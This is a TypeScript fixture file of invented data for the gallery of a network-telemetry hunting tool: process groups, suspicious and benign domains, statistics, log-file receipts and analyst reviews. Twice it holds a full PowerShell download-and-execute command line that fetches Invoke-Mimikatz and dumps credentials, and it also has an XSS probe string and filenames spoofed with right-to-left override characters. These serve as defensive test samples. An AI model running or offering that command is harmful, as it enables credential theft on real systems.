import type {
  ArgumentsRow, CumulativeSteps, DomainDetail, DomainRow, FqdnRow, GroupReading, ListReading, Overview, RarityTests,
} from '../../src/engine/readings';
import { defaultSettings, everyContact } from '../../src/engine/settings';
import type { FileReceipt, RecordKind } from '../../src/ingest/receipt';
import type { Judgement, Review } from '../../src/labels/verdict';
import { hostileTexts } from './hostile-texts';

/** Fixed readings for the gallery. Nothing here is computed the way the product computes; it only looks likely. */

const day = 86_400_000;
export const june = Date.UTC(2024, 5, 1);
export const december = Date.UTC(2024, 11, 31, 23, 59, 12);
/** The gallery's present, so that `yesterday` stays yesterday. */
export const now = Date.now();

const noTests: RarityTests = {
  wilsonRare: null, wilsonCommon: null, oddsRatio: null, woolf: null, conditional: null,
  chiSquareP: null, chiSquareYatesP: null, fisherP: null,
};

interface GroupSketch {
  readonly id: string;
  readonly label: string;
  readonly images: readonly string[];
  readonly connections: number;
  readonly baseDomains: number;
  readonly rare: number;
  readonly rareMalicious: number;
  readonly commonMalicious: number;
  readonly tests: Partial<RarityTests>;
  readonly holm?: number | null;
}

function group(sketch: GroupSketch): GroupReading {
  const { connections, baseDomains, rare, rareMalicious, commonMalicious } = sketch;
  const share = 1 / Math.max(1, sketch.images.length);
  return {
    id: sketch.id,
    label: sketch.label,
    processes: sketch.images.map((image) => ({ image, connections: Math.round(connections * share) })),
    connections,
    fqdns: Math.round(baseDomains * 2.4),
    baseDomains,
    rare,
    malicious: rareMalicious + commonMalicious,
    unreviewed: Math.round(baseDomains * 0.31),
    flaggedReviewedBenign: sketch.id === 'powershell' ? 29 : 0,
    machines: Math.round(Math.sqrt(connections)),
    percentiles: baseDomains === 0 ? null : { p60: 5, p90: 82, p95: 321.55, p99: 7925.87 },
    table: {
      rareMalicious,
      rareBenign: rare - rareMalicious,
      commonMalicious,
      commonBenign: baseDomains - rare - commonMalicious,
    },
    tests: { ...noTests, ...sketch.tests },
    fisherHolmP: sketch.holm ?? null,
  };
}

const powershellTests: RarityTests = {
  wilsonRare: { low: 0.00863, high: 0.03081 },
  wilsonCommon: { low: 0.00092, high: 0.02891 },
  oddsRatio: 3.1774,
  woolf: { low: 0.3999, high: 25.2447 },
  conditional: { oddsRatio: 3.1731, low: 0.4349, high: 139.9906 },
  chiSquareP: 0.2481,
  chiSquareYatesP: 0.4291,
  fisherP: 0.4668,
};

export const groups: readonly GroupReading[] = [
  group({
    id: 'powershell', label: 'PowerShell', images: ['powershell.exe', 'pwsh', 'powershell_ise.exe', 'pwsh.exe', 'powershell studio.exe'],
    connections: 3_220_829, baseDomains: 742, rare: 550, rareMalicious: 9, commonMalicious: 1, tests: powershellTests, holm: 1,
  }),
  group({
    id: 'rundll32', label: 'rundll32', images: ['rundll32.exe'], connections: 156_203, baseDomains: 940, rare: 722, rareMalicious: 1, commonMalicious: 0,
    tests: {
      wilsonRare: { low: 0.0002, high: 0.0078 }, wilsonCommon: { low: 0, high: 0.0173 }, oddsRatio: Infinity, woolf: null,
      conditional: { oddsRatio: Infinity, low: 0.0077, high: Infinity }, chiSquareP: 0.583, chiSquareYatesP: 1, fisherP: 1,
    },
    holm: 1,
  }),
  group({
    id: 'python', label: 'Python', images: ['python.exe', 'python3.11', 'pythonw.exe'], connections: 795_346, baseDomains: 825, rare: 616, rareMalicious: 0, commonMalicious: 1,
    tests: {
      wilsonRare: { low: 0, high: 0.0062 }, wilsonCommon: { low: 0.0008, high: 0.0266 }, oddsRatio: 0, woolf: null,
      conditional: { oddsRatio: 0, low: 0, high: 13.2 }, chiSquareP: 0.0858, chiSquareYatesP: 0.571, fisherP: 0.2533,
    },
    holm: 1,
  }),
  group({
    id: 'cmd', label: 'cmd', images: ['cmd.exe'], connections: 48_211, baseDomains: 402, rare: 318, rareMalicious: 14, commonMalicious: 1,
    tests: {
      wilsonRare: { low: 0.0264, high: 0.0725 }, wilsonCommon: { low: 0.0021, high: 0.0644 }, oddsRatio: 3.822, woolf: { low: 0.495, high: 29.5 },
      conditional: { oddsRatio: 3.81, low: 0.57, high: 163 }, chiSquareP: 0.1665, chiSquareYatesP: 0.275, fisherP: 0.2099,
    },
    holm: 1,
  }),
  group({
    id: 'wscript', label: 'wscript', images: ['wscript.exe'], connections: 6_936, baseDomains: 82, rare: 58, rareMalicious: 21, commonMalicious: 2,
    tests: {
      wilsonRare: { low: 0.25, high: 0.49 }, wilsonCommon: { low: 0.023, high: 0.258 }, oddsRatio: 6.243, woolf: { low: 1.335, high: 29.2 },
      conditional: { oddsRatio: 6.13, low: 1.29, high: 59.1 }, chiSquareP: 0.01, chiSquareYatesP: 0.0213, fisherP: 0.0138,
    },
    holm: 0.0828,
  }),
  group({
    id: 'bash', label: 'bash', images: ['bash'], connections: 2_018, baseDomains: 61, rare: 44, rareMalicious: 0, commonMalicious: 0,
    tests: { wilsonRare: { low: 0, high: 0.0803 }, wilsonCommon: { low: 0, high: 0.1843 } },
  }),
  group({ id: 'zsh', label: 'zsh', images: ['zsh'], connections: 12, baseDomains: 3, rare: 3, rareMalicious: 0, commonMalicious: 0, tests: { wilsonRare: { low: 0, high: 0.5615 } } }),
  group({
    id: 'other', label: 'Other processes', images: ['chrome.exe', 'teams.exe', 'svchost.exe', 'msedge.exe', 'onedrive.exe', 'curl.exe', 'mshta.exe'],
    connections: 9_112_440, baseDomains: 14_812, rare: 9_077, rareMalicious: 31, commonMalicious: 12,
    tests: {
      wilsonRare: { low: 0.0024, high: 0.0048 }, wilsonCommon: { low: 0.0012, high: 0.0036 }, oddsRatio: 1.634, woolf: { low: 0.838, high: 3.18 },
      conditional: { oddsRatio: 1.63, low: 0.82, high: 3.5 }, chiSquareP: 0.146, chiSquareYatesP: 0.194, fisherP: 0.1634,
    },
    holm: 0.817,
  }),
];

export const emptyGroup: GroupReading = group({
  id: 'csh', label: 'csh', images: [], connections: 0, baseDomains: 0, rare: 0, rareMalicious: 0, commonMalicious: 0, tests: {},
});

const judged = (verdict: Judgement['verdict'], source: Judgement['source'], reason = '', mixed = false): Judgement => ({ verdict, source, reason, mixed });
export const unreviewed = judged('unreviewed', 'none');

interface DomainSketch {
  readonly name: string;
  readonly connections: number;
  readonly fqdns: number;
  readonly machines: number;
  readonly score: number;
  readonly judgement: Judgement;
}

const hostingOf: Readonly<Record<string, DomainRow['hosting']>> = {
  'paste.ee': 'paste', 'githubusercontent.com': 'code hosting', 'trycloudflare.com': 'tunnel', 'ngrok-free.app': 'tunnel', 'amazonaws.com': 'private suffix',
};

const rankOf: Readonly<Record<string, number>> = { 'githubusercontent.com': 41, 'trycloudflare.com': 12_408, 'amazonaws.com': 19 };

function row(sketch: DomainSketch, index: number): DomainRow {
  const mean = sketch.connections / sketch.fqdns;
  return {
    baseDomain: sketch.name,
    connections: sketch.connections,
    fqdns: sketch.fqdns,
    meanPerFqdn: mean,
    rare: mean <= 5,
    machines: sketch.machines,
    firstSeen: june + index * 1.7 * day,
    lastSeen: december - index * 2.3 * day - index * 3_641_000,
    judgement: sketch.judgement,
    score: sketch.score,
    rank: rankOf[sketch.name] ?? null,
    hosting: hostingOf[sketch.name] ?? null,
  };
}

export const knownRows: readonly DomainRow[] = [
  { name: 'cdn-telemetry-sync.xyz', connections: 1, fqdns: 1, machines: 1, score: 94, judgement: judged('malicious', 'intel', 'ThreatFox') },
  { name: 'paste.ee', connections: 2, fqdns: 1, machines: 2, score: 91, judgement: judged('malicious', 'review', 'loader seen on WS-0417') },
  { name: 'githubusercontent.com', connections: 38, fqdns: 2, machines: 9, score: 88, judgement: judged('malicious', 'review', 'PowerSploit by its arguments', true) },
  { name: 'trycloudflare.com', connections: 5, fqdns: 3, machines: 3, score: 77, judgement: unreviewed },
  { name: 'update-msedge.top', connections: 3, fqdns: 2, machines: 1, score: 76, judgement: judged('malicious', 'intel', 'URLhaus') },
  { name: 'ngrok-free.app', connections: 4, fqdns: 4, machines: 2, score: 71, judgement: unreviewed },
  { name: 'a-registrable-name-of-a-quite-remarkable-length-indeed.co.uk', connections: 7, fqdns: 3, machines: 2, score: 54, judgement: unreviewed },
  { name: 'd1corp446.co.jp', connections: 5, fqdns: 1, machines: 4, score: 38, judgement: unreviewed },
  { name: 'adobe.com', connections: 3, fqdns: 1, machines: 3, score: 12, judgement: judged('benign', 'review', 'false alarm') },
  { name: 'chocolatey.org', connections: 412, fqdns: 2, machines: 61, score: 9, judgement: judged('benign', 'allow', 'corporate allow-list') },
  { name: 'automox.com', connections: 2_282_308, fqdns: 14, machines: 2_411, score: 1, judgement: judged('benign', 'review', 'patching') },
  { name: 'launchdarkly.com', connections: 493_812, fqdns: 6, machines: 2_380, score: 1, judgement: unreviewed },
  { name: 'amazonaws.com', connections: 166_536, fqdns: 212, machines: 1_904, score: 22, judgement: unreviewed },
].map(row);

export const hostileRows: readonly DomainRow[] = hostileTexts.map((name, index) =>
  row({ name, connections: index + 1, fqdns: 1, machines: 1, score: 90 - index * 5, judgement: judged('malicious', 'intel', name) }, index),
);

const syllables = ['ka', 'lo', 'mi', 'ter', 'vox', 'sen', 'dur', 'pa', 'ri', 'gal', 'on', 'ex'];

/** Row `index` of a list without end. */
export function endlessRow(index: number): DomainRow {
  const part = (shift: number) => syllables[Math.floor(index / shift) % syllables.length] ?? '';
  return row(
    {
      name: `${part(1)}${part(12)}${part(144)}${index}.${['com', 'net', 'co.uk', 'io'][index % 4] ?? 'com'}`,
      connections: 1 + ((index * 7919) % 400),
      fqdns: 1 + (index % 9),
      machines: 1 + (index % 31),
      score: Math.max(0, 88 - Math.floor(index / 9)),
      judgement: unreviewed,
    },
    index % 60,
  );
}

export function steps(count: number, most: number): CumulativeSteps {
  const value = Array.from({ length: count }, (_, index) => Math.max(1, Math.round(most ** ((index / (count - 1)) ** 2.2))));
  return { value, share: value.map((_, index) => 0.28 + 0.72 * ((index + 1) / count)) };
}

const argument = (sketch: Partial<ArgumentsRow> & { readonly arguments: string }): ArgumentsRow => ({
  fqdn: 'raw.githubusercontent.com', image: 'powershell.exe', source: 'process start', connections: 1, machines: 1, judgement: unreviewed, ...sketch,
});

const fqdn = (name: string, connections: number, machines: number, judgement: Judgement): FqdnRow => ({
  fqdn: name, tenant: name.split('.').slice(-3).join('.'), connections, machines, firstSeen: june, lastSeen: december - connections * day,
  judgement, nameSources: ['DNS query joined', 'logged name'],
  hosting: name === 'raw.githubusercontent.com' ? { kind: 'code hosting', tenantIn: 'path', entry: name } : null,
});

export function detailOf(row: DomainRow): DomainDetail {
  const base = row.baseDomain;
  const github = base === 'githubusercontent.com';
  return {
    row,
    icannDomain: base,
    tenants: github ? ['raw.githubusercontent.com', 'objects.githubusercontent.com'] : [],
    fqdns: github
      ? [fqdn('objects.githubusercontent.com', 28, 7, unreviewed), fqdn('raw.githubusercontent.com', 10, 4, judged('malicious', 'review', 'PowerSploit', true))]
      : [fqdn(base, Math.ceil(row.connections * 0.6), row.machines, row.judgement), fqdn(`api-gateway.eu-central-1.telemetry.${base}`, Math.floor(row.connections * 0.4), 1, unreviewed)],
    fqdnCount: row.fqdns,
    arguments: [
      argument({
        arguments: `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds"`,
        connections: 3, machines: 1, judgement: judged('malicious', 'review', 'PowerSploit'),
      }),
      argument({ arguments: `-ep bypass -c "Invoke-\u202eztakimiM"`, connections: 2, machines: 2, source: 'script block', judgement: judged('malicious', 'review', 'Mimikatz') }),
      argument({ arguments: '-File C:\\build\\fetch.ps1 -Tag v1.14.2', connections: 5, judgement: judged('benign', 'review', 'build') }),
      argument({ arguments: `-EncodedCommand ${'SQBFAFgAIAAo'.repeat(900)}`, connections: 1 }),
      argument({ arguments: '', fqdn: 'objects.githubusercontent.com', connections: 28, machines: 7, source: 'logged' }),
    ],
    argumentsCount: 5,
    hosts: [['WS-0417', 12], ['WS-1120', 8], ['BUILD-02', 8], ['SRV-SQL-PROD-EU-WEST-0001.corp.example.internal', 6], ['WS-0003', 4]].map(([name, connections]) => ({ name: String(name), connections: Number(connections) })),
    hostCount: 9,
    users: [['ACME\\j.eriksen', 20], ['NT AUTHORITY\\SYSTEM', 18]].map(([name, connections]) => ({ name: String(name), connections: Number(connections) })),
    userCount: 2,
    timeLine: { start: june, stepMs: 2 * day, connections: Array.from({ length: 107 }, (_, index) => (index % 11 === 0 ? (index * 37) % 9 : index % 29 === 3 ? 14 : 0)) },
    scoreParts: [
      { factor: 'malicious arguments by review', points: 34, why: '5 of 10 connections to raw.githubusercontent.com' },
      { factor: 'rare tenant inside a frequent domain', points: 22, why: 'raw.githubusercontent.com, 10 connections' },
      { factor: 'few machines', points: 25, why: '9 of 2,411' },
      { factor: 'recent', points: 9, why: 'last seen 2024-11-22' },
      { factor: 'long known', points: -2, why: 'first seen 2024-06-03' },
    ],
    otherGroups: [{ id: 'python', label: 'Python', connections: 311 }, { id: 'bash', label: 'bash', connections: 12 }],
  };
}

const recognised = (counts: Partial<Record<RecordKind, number>>): Record<RecordKind, number> => ({
  network: 0, dns: 0, http: 0, tls: 0, wfp: 0, process: 0, script: 0, other: 0, ...counts,
});

const receipt = (sketch: Partial<FileReceipt> & { readonly name: string }): FileReceipt => ({
  kind: 'log', format: 'delimited', bytes: 0, records: 0, events: 0, rejected: {}, skipped: {}, recognised: recognised({}),
  samples: [], warnings: [], details: [], error: null, seconds: 0.1, ...sketch,
});

export const receipts: readonly FileReceipt[] = [
  receipt({
    name: 'sysmon-2024-06_12.json.gz', format: 'sysmon-json', bytes: 812_004_118, records: 4_102_337, events: 3_220_829,
    rejected: { malformed: 14, 'too-long': 1 },
    skipped: { 'other-event': 311_880, 'process-start': 402_113, script: 2_044, inbound: 15_002, 'not-public': 88_431, joined: 62_019, duplicate: 4 },
    recognised: recognised({ network: 3_371_002, dns: 20_331, process: 402_113, script: 2_044, other: 306_847 }),
    samples: [
      { reason: 'malformed', record: 18_221, text: '{"EventID":3,"Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","DestinationHostname":' },
      { reason: 'too-long', record: 2_000_118, text: '{"EventID":1,"CommandLine":"AAAAAAAAAAAAAAAA\u202e<script>alert(1)</script>' },
    ],
    warnings: ['The log holds no look-ups (event 22) for 12 % of the connections; their names are the ones that Windows resolved backwards.'],
    details: [{ what: 'container', value: 'gzip, 1 member' }, { what: 'encoding', value: 'UTF-8' }, { what: 'records', value: 'JSON, one a line' }, { what: 'times', value: 'UtcTime, UTC' }],
    seconds: 21.4,
  }),
  receipt({
    name: 'proxy-export.csv', bytes: 99_120_004, records: 402_118, events: 401_992, skipped: { 'no-name': 126 },
    recognised: recognised({ network: 402_118 }), details: [{ what: 'delimiter', value: 'semicolon' }, { what: 'encoding', value: 'UTF-16 LE, with mark' }], seconds: 2.2,
  }),
  receipt({ name: 'threatfox.txt', kind: 'intel', format: 'domains', bytes: 88_112, records: 3_121, events: 3_119, rejected: { malformed: 2 }, seconds: 0.1 }),
];

/** Files that could be read in another way, a repeated one, and an archive with files that failed. */
export const unsureReceipts: readonly FileReceipt[] = [
  receipt({
    name: 'query_data (3).csv', format: 'table', bytes: 22_400_118, records: 100_000, events: 98_117, skipped: { 'not-public': 1_883 }, recognised: recognised({ network: 100_000 }), seconds: 0.6,
    warnings: ['It holds exactly 100,000 records, where exports are often cut off. Contacts beyond may be missing: export a shorter span of time, or in parts.', '12 times may be an hour early: clocks in America/New_York showed that hour twice when they were put back. The first of the two is taken.'],
    details: [
      { what: 'encoding', value: 'Western European (windows-1252)', certainty: 'guess', why: 'it holds bytes that are no UTF-8', otherwise: { kind: 'encoding', encoding: 'windows-1252' } },
      { what: 'format', value: 'Table of contacts', certainty: 'likely', why: 'its header names process_name, domain', otherwise: { kind: 'format', formats: [{ id: 'table', label: 'Table of contacts' }, { id: 'by-hand', label: 'Table, columns named by hand' }] } },
      { what: 'delimiter', value: 'comma', certainty: 'likely', why: 'it cuts 48 of the first 50 rows into as many fields as the header, 9', otherwise: { kind: 'delimiter', delimiter: ',' } },
      { what: 'columns', value: 'time: when · machine: pc \u202e<b> · process name: process_name · host name or url contacted: domain', otherwise: { kind: 'columns' } },
      { what: 'time zone', value: 'UTC', certainty: 'guess', why: 'it names no zone: times are written as 6/7/2024 8:12:44 AM', otherwise: { kind: 'timeZone', timeZone: 'UTC' } },
      { what: 'dates', value: 'month before day', certainty: 'guess', why: 'all of them could be read either way, as 6/7/2024 8:12:44 AM', otherwise: { kind: 'dayOrder', dayFirst: false } },
    ],
  }),
  receipt({ name: 'query_data (4).csv', format: 'table', bytes: 22_400_118, repeats: 'query_data (3).csv', warnings: ['It is the same file as one dropped before it, so it was left out and counts once.'] }),
  receipt({
    name: 'triage.zip', format: 'evtx', bytes: 88_120_400, records: 41_200, events: 1_204, skipped: { 'other-event': 39_996 }, recognised: recognised({ network: 1_204, other: 39_996 }), seconds: 3.1,
    warnings: ['2 of the files inside could not be read in full; the others were.'],
    details: [{ what: 'around it', value: 'zip' }, { what: 'format', value: 'Windows event log (EVTX)', certainty: 'sure', why: 'it starts as such a log does' }],
    members: [
      { name: 'triage.zip › Sysmon.evtx', records: 39_000, error: null },
      { name: 'triage.zip › secret.csv', records: 0, error: { name: 'ArchiveEncrypted', message: 'triage.zip: secret.csv is protected by a password. Unpack it and drop the files.' } },
      { name: 'triage.zip › Security.evtx', records: 2_200, error: null },
      { name: 'triage.zip › notes.pdf', records: 0, error: { name: 'FormatUnknown', message: 'triage.zip › notes.pdf: is in no format that Seldom knows.' } },
    ],
    error: { name: 'ArchiveEncrypted', message: 'triage.zip: secret.csv is protected by a password. Unpack it and drop the files.' },
  }),
];

export const failedReceipts: readonly FileReceipt[] = [
  receipt({ name: 'holiday.jpg', kind: 'unknown', format: '', bytes: 4_100_221, error: { name: 'FormatUnknown', message: 'holiday.jpg: neither a log, a list, a review nor a snapshot that Seldom knows.' } }),
  receipt({ name: 'logs.zip', kind: 'unknown', format: '', bytes: 22_118, error: { name: 'ArchiveEncrypted', message: 'logs.zip: encrypted, so it cannot be read.' } }),
  receipt({ name: 'empty\u202egpj.csv', kind: 'unknown', format: '', bytes: 0, error: { name: 'FileEmpty', message: 'empty\u202egpj.csv: holds nothing.' } }),
];

const list = (facts: Partial<ListReading> & Pick<ListReading, 'id' | 'name'>): ListReading => ({
  kind: 'intel', origin: 'file', format: '', date: null, entries: 0, levels: { domain: 0, fqdn: 0, url: 0, address: 0 }, rejected: 0, unused: {},
  addedAt: now - 2 * day, matches: 0, toReview: 0, flaggedArguments: 0, conflicts: 0, isFixed: false, ...facts,
});

export const lists: readonly ListReading[] = [
  list({ id: 'l1', name: 'threatfox.txt', format: 'ThreatFox, CSV', date: now - 3 * day, entries: 3_119, levels: { domain: 2_004, fqdn: 0, url: 611, address: 504 }, rejected: 2, unused: { 'other-indicator': 1_204, 'too-old': 388 }, matches: 7, conflicts: 2, toReview: 1 }),
  list({ id: 'l2', name: 'urlhaus-hosts.txt', format: 'Hosts file', entries: 11_204, levels: { domain: 11_204, fqdn: 0, url: 0, address: 0 }, matches: 12 }),
  list({ id: 'l3', name: 'corporate-allow.csv', kind: 'allow', format: 'CSV with a column of domains', entries: 412, levels: { domain: 412, fqdn: 0, url: 0, address: 0 }, addedAt: now - 3 * 3_600_000, matches: 199 }),
  list({ id: 'l4', name: 'tranco_top-1m.csv', kind: 'context', format: 'Popularity, by domain (Tranco)', entries: 1_000_000, levels: { domain: 1_000_000, fqdn: 0, url: 0, address: 0 } }),
  list({ id: 'allowed-here', name: 'Allowed here', kind: 'allow', origin: 'page', format: 'From rows of this analysis', entries: 3, levels: { domain: 1, fqdn: 2, url: 0, address: 0 }, matches: 3 }),
];

export const reviews: readonly Review[] = [
  { verdict: 'benign', level: 'base', domain: 'adobe.com', arguments: '', note: 'false alarm: updater', at: null, author: '' },
  { verdict: 'benign', level: 'base', domain: 'automox.com', arguments: '', note: 'patching', at: now - day, author: 'Kim Berg' },
  { verdict: 'malicious', level: 'arguments', domain: 'raw.githubusercontent.com', arguments: `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds"`, note: 'PowerSploit download, Invoke-Mimikatz', at: now - 3_600_000, author: '' },
  { verdict: 'malicious', level: 'fqdn', domain: 'paste.ee', arguments: '', note: '', at: now - 60_000, author: '' },
];

export const fullOverview: Overview = {
  name: 'Acme, June to December 2024',
  settings: defaultSettings,
  filter: everyContact,
  contacts: 3_220_829,
  connections: 13_341_995,
  firstSeen: june,
  lastSeen: december,
  machines: 2_411,
  basis: 'events',
  groups,
  receipts,
  lists,
  reviews,
  evidencePending: null,
  conflicts: 0,
};
